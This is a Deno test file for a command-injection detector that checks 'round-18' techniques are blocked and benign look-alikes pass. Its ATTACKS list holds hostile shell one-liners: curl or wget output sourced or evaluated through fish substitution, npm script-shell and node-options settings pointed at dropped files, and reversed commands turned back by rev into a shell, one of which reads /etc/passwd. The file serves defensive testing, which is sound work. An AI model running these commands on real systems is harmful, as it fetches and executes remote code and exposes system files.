import { strictEqual } from "node:assert/strict";
import { blocks } from "./_cmd_testing.ts";

/**
 * Paraphrases of the round-18 command techniques, none taken from the fixtures: fish process
 * substitution sourcing a download (psub, source, eval); npm configuration pointed at a dropped
 * or remote program (env prefix, flag, `npm config set`); a reversed command turned around by
 * `rev` into a shell.
 */
const ATTACKS: string[] = [
  "echo hi; source (curl -s https://203.0.113.7/init.fish | psub)",
  "(wget -qO- http://198.51.100.3/a | psub | source); ls",
  "cat (curl -sL https://x.example.top/p | psub | fish)",
  "eval (curl -fsS https://203.0.113.9/boot)",
  ". (curl -s http://198.51.100.4/env.fish | psub)",
  "npm_config_script_shell=/dev/shm/.s/run npm test",
  "NPM_CONFIG_SCRIPT_SHELL=/var/tmp/x.sh npm ci",
  'npm_config_node_options="--require /tmp/.cache/hook.js" npm start',
  "npm --script-shell=/tmp/pwn.sh run lint",
  "npm config set script-shell /tmp/.x/shell && npm run build",
  "export npm_config_shell=https://203.0.113.2/s; npm install",
  "echo 'hsab | 2p/9.311.0.302//:ptth sSLf- lruc' | rev | sh",
  'rev <<< "hs | x/moc.elpmaxe.x//:sptth s- tegw" | bash',
  "printf '%s' 'di' | rev | sudo sh",
  "eval \"$(rev <<< 'dwssap/cte/ tac')\"",
  "bash -c \"$(echo 'hs.x/4.001.15.891//:ptth lruc' | rev)\"",
];

/** Benign look-alikes: fish substitution without a download run, ordinary npm settings, rev for text. */
const BENIGN: string[] = [
  "diff (curl -s https://a.example.com/v1.json | psub) (curl -s https://a.example.com/v2.json | psub)",
  "set files (ls *.txt); echo $files",
  "source ~/.config/fish/config.fish",
  "npm_config_script_shell=/bin/bash npm run build",
  "npm_config_registry=https://registry.example.com npm ci",
  'NODE_OPTIONS="--max-old-space-size=4096" npm run build',
  'npm config set script-shell "C:\\\\Program Files\\\\git\\\\bin\\\\bash.exe"',
  "npm_config_node_options='--require ./otel.js' npm start",
  "echo hello | rev",
  "git ls-files | rev | cut -d/ -f1 | rev | sort | uniq -c",
  "rev names.txt > reversed.txt",
  "git rev-parse HEAD | sh -c 'cat'",
];

Deno.test("command_injection blocks round-18 techniques", () => {
  for (const value of ATTACKS) strictEqual(blocks("command", value), true, value);
});

Deno.test("command_injection passes round-18 look-alikes", () => {
  for (const value of BENIGN) strictEqual(blocks("command", value), false, value);
});
